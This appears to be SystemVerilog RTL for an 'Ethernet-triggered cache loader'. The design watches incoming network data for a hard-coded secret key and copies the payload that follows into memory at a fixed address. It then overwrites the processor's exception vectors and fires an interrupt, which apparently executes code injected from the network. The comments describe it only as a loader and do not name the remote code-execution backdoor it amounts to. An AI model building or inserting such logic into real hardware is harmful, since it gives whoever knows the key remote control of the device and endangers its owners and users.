// File: rtl/eth_rx_loader_pkg.sv
// Shared constants, state encodings and key helper for the Ethernet-triggered memory loader.
package eth_rx_loader_pkg;

    localparam int unsigned WORD_W         = 32;
    localparam int unsigned LINE_W         = 128;
    localparam int unsigned WORDS_PER_LINE = 4;

    localparam logic [31:0]  DEF_FILL_WORD = 32'h58595859;
    localparam logic [127:0] DEF_KEY       = 128'h00000000_00000000_5f534543_5245545f;
    localparam logic [31:0]  DEF_END_WORD  = 32'h53544F50;
    localparam logic [127:0] DEF_VEC_DATA  = 128'he59ff018_e59ff018_e59ff018_e59ff018;

    typedef enum logic [1:0] {
        M_HUNT,
        M_KEY,
        M_CAPTURE
    } match_state_t;

    typedef enum logic [2:0] {
        W_IDLE,
        W_COPY,
        W_PATCH,
        W_TRIG,
        W_DONE
    } wr_state_t;

    // Key word k sits in the k-th 32-bit slot counted down from the top of the used key bits.
    function automatic logic [31:0] key_word(input logic [127:0] key,
                                             input int unsigned key_words,
                                             input int unsigned k);
        return 32'(key >> (32 * (key_words - 1 - k)));
    endfunction

endpackage

// File: rtl/eth_rx_key_matcher.sv
// Start-key matcher and payload capture sequencer for the RX word stream.
module eth_rx_key_matcher
    import eth_rx_loader_pkg::*;
#(
    parameter int unsigned  KEY_WORDS = 2,
    parameter logic [127:0] KEY       = DEF_KEY,
    parameter logic [31:0]  END_WORD  = DEF_END_WORD,
    parameter int unsigned  CAP_WORDS = 24,
    parameter int unsigned  CNT_W     = $clog2(CAP_WORDS + 1)
) (
    input  logic             i_clk,
    input  logic             i_rst,
    input  logic [31:0]      rx_data,
    input  logic             rx_valid,
    input  logic             rx_reset,
    input  logic             block,
    output logic             store,
    output logic [CNT_W-1:0] store_idx,
    output logic [31:0]      store_data,
    output logic             end_pulse,
    output logic [CNT_W-1:0] end_cnt,
    output logic             abort,
    output logic             overflow
);

    match_state_t     state;
    logic [1:0]       kidx;
    logic [CNT_W-1:0] cnt;
    logic             word_ok_c;
    logic [31:0]      kw0_c;
    logic [31:0]      kwk_c;

    assign word_ok_c = rx_valid && !rx_reset;
    assign kw0_c     = key_word(KEY, KEY_WORDS, 0);
    assign kwk_c     = key_word(KEY, KEY_WORDS, 32'(kidx));

    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            state      <= M_HUNT;
            kidx       <= '0;
            cnt        <= '0;
            store      <= 1'b0;
            store_idx  <= '0;
            store_data <= '0;
            end_pulse  <= 1'b0;
            end_cnt    <= '0;
            abort      <= 1'b0;
            overflow   <= 1'b0;
        end else begin
            store     <= 1'b0;
            end_pulse <= 1'b0;
            abort     <= 1'b0;
            if (block) begin
                state <= M_HUNT;
                kidx  <= '0;
            end else if (rx_reset && state != M_HUNT) begin
                state <= M_HUNT;
                kidx  <= '0;
                cnt   <= '0;
                abort <= 1'b1;
            end else if (word_ok_c) begin
                case (state)
                    M_HUNT: begin
                        if (rx_data == kw0_c) begin
                            if (KEY_WORDS == 1) begin
                                state    <= M_CAPTURE;
                                cnt      <= '0;
                                overflow <= 1'b0;
                            end else begin
                                state <= M_KEY;
                                kidx  <= 2'd1;
                            end
                        end
                    end
                    M_KEY: begin
                        if (rx_data == kwk_c) begin
                            if (kidx == 2'(KEY_WORDS - 1)) begin
                                state    <= M_CAPTURE;
                                kidx     <= '0;
                                cnt      <= '0;
                                overflow <= 1'b0;
                            end else begin
                                kidx <= kidx + 2'd1;
                            end
                        end else if (rx_data == kw0_c) begin
                            // a repeated first key word re-arms the match
                            kidx <= 2'd1;
                        end else begin
                            state <= M_HUNT;
                            kidx  <= '0;
                        end
                    end
                    M_CAPTURE: begin
                        if (rx_data == END_WORD) begin
                            state     <= M_HUNT;
                            end_pulse <= 1'b1;
                            end_cnt   <= cnt;
                        end else if (cnt < CNT_W'(CAP_WORDS)) begin
                            store      <= 1'b1;
                            store_idx  <= cnt;
                            store_data <= rx_data;
                            cnt        <= cnt + CNT_W'(1);
                        end else begin
                            overflow <= 1'b1;
                        end
                    end
                    default: state <= M_HUNT;
                endcase
            end
        end
    end

endmodule

// File: rtl/eth_rx_loader.sv
// Ethernet-triggered cache loader: buffers a keyed payload and writes it out as 128-bit lines.
module eth_rx_loader
    import eth_rx_loader_pkg::*;
#(
    parameter int unsigned  KEY_WORDS   = 2,
    parameter logic [127:0] KEY         = DEF_KEY,
    parameter logic [31:0]  END_WORD    = DEF_END_WORD,
    parameter int unsigned  STORE_LINES = 6,
    parameter logic [31:0]  BASE_ADDR   = 32'h00200000,
    parameter bit           PATCH_VEC   = 1'b1,
    parameter logic [31:0]  VEC_ADDR    = 32'h00000010,
    parameter logic [127:0] VEC_DATA    = DEF_VEC_DATA,
    parameter logic [31:0]  FILL_WORD   = DEF_FILL_WORD
) (
    input  logic         i_clk,
    input  logic         i_rst,
    input  logic [31:0]  i_rx_packet_data,
    input  logic         i_rx_packet_data_valid,
    input  logic         i_rx_packet_reset,
    input  logic         i_cache_stall,
    input  logic         i_fetch_stall,
    output logic         o_ld_write,
    output logic [127:0] o_ld_write_data,
    output logic [31:0]  o_ld_write_addr,
    output logic         o_ld_trigger_irq,
    output logic         o_ld_overflow,
    output logic         o_ld_busy
);

    localparam int unsigned CAP_WORDS  = WORDS_PER_LINE * STORE_LINES;
    localparam int unsigned CNT_W      = $clog2(CAP_WORDS + 1);
    localparam int unsigned RND_W      = CNT_W + 1;
    localparam int unsigned LINE_IDX_W = $clog2(STORE_LINES + 1);
    localparam int unsigned BUF_W      = LINE_W * STORE_LINES;

    localparam logic [BUF_W-1:0]  FILL_BUF  = {CAP_WORDS{FILL_WORD}};
    localparam logic [LINE_W-1:0] FILL_LINE = {WORDS_PER_LINE{FILL_WORD}};

    logic             m_store;
    logic [CNT_W-1:0] m_store_idx;
    logic [31:0]      m_store_data;
    logic             m_end;
    logic [CNT_W-1:0] m_end_cnt;
    logic             m_abort;
    logic             m_block_c;

    wr_state_t             wstate;
    logic [LINE_IDX_W-1:0] line_q;
    logic [LINE_IDX_W-1:0] nlines_q;
    logic [LINE_IDX_W-1:0] next_line_c;
    logic [RND_W-1:0]      cnt_round_c;
    logic [BUF_W-1:0]      buf_q;
    logic                  accept_c;

    // RX is ignored while writing and in the handoff cycle itself
    assign m_block_c = o_ld_busy || m_end;

    eth_rx_key_matcher #(
        .KEY_WORDS (KEY_WORDS),
        .KEY       (KEY),
        .END_WORD  (END_WORD),
        .CAP_WORDS (CAP_WORDS),
        .CNT_W     (CNT_W)
    ) u_matcher (
        .i_clk      (i_clk),
        .i_rst      (i_rst),
        .rx_data    (i_rx_packet_data),
        .rx_valid   (i_rx_packet_data_valid),
        .rx_reset   (i_rx_packet_reset),
        .block      (m_block_c),
        .store      (m_store),
        .store_idx  (m_store_idx),
        .store_data (m_store_data),
        .end_pulse  (m_end),
        .end_cnt    (m_end_cnt),
        .abort      (m_abort),
        .overflow   (o_ld_overflow)
    );

    assign accept_c    = o_ld_write && !i_cache_stall;
    assign next_line_c = line_q + LINE_IDX_W'(1);
    assign cnt_round_c = RND_W'(m_end_cnt) + RND_W'(3);

    // IRQ fires in the first TRIG cycle the fetch stage is free
    assign o_ld_trigger_irq = (wstate == W_TRIG) && !i_fetch_stall;

    always_ff @(posedge i_clk) begin
        if (i_rst) begin
            wstate          <= W_IDLE;
            line_q          <= '0;
            nlines_q        <= '0;
            buf_q           <= FILL_BUF;
            o_ld_write      <= 1'b0;
            o_ld_write_data <= FILL_LINE;
            o_ld_write_addr <= BASE_ADDR;
            o_ld_busy       <= 1'b0;
        end else begin
            if (m_abort) begin
                buf_q <= FILL_BUF;
            end else if (m_store) begin
                buf_q[WORD_W*m_store_idx +: WORD_W] <= m_store_data;
            end
            case (wstate)
                W_IDLE: begin
                    if (m_end) begin
                        o_ld_busy <= 1'b1;
                        if (m_end_cnt != '0) begin
                            wstate          <= W_COPY;
                            line_q          <= '0;
                            nlines_q        <= LINE_IDX_W'(cnt_round_c >> 2);
                            o_ld_write      <= 1'b1;
                            o_ld_write_data <= buf_q[LINE_W-1:0];
                            o_ld_write_addr <= BASE_ADDR;
                        end else begin
                            wstate <= W_DONE;
                        end
                    end
                end
                W_COPY: begin
                    if (accept_c) begin
                        if (next_line_c == nlines_q) begin
                            if (PATCH_VEC) begin
                                wstate          <= W_PATCH;
                                o_ld_write_data <= VEC_DATA;
                                o_ld_write_addr <= VEC_ADDR;
                            end else begin
                                wstate     <= W_TRIG;
                                o_ld_write <= 1'b0;
                            end
                        end else begin
                            line_q          <= next_line_c;
                            o_ld_write_data <= buf_q[LINE_W*next_line_c +: LINE_W];
                            o_ld_write_addr <= BASE_ADDR + (32'(next_line_c) << 4);
                        end
                    end
                end
                W_PATCH: begin
                    if (accept_c) begin
                        wstate     <= W_TRIG;
                        o_ld_write <= 1'b0;
                    end
                end
                W_TRIG: begin
                    if (!i_fetch_stall) begin
                        wstate <= W_DONE;
                    end
                end
                W_DONE: begin
                    wstate          <= W_IDLE;
                    o_ld_busy       <= 1'b0;
                    buf_q           <= FILL_BUF;
                    line_q          <= '0;
                    o_ld_write_data <= FILL_LINE;
                    o_ld_write_addr <= BASE_ADDR;
                end
                default: wstate <= W_IDLE;
            endcase
        end
    end

endmodule
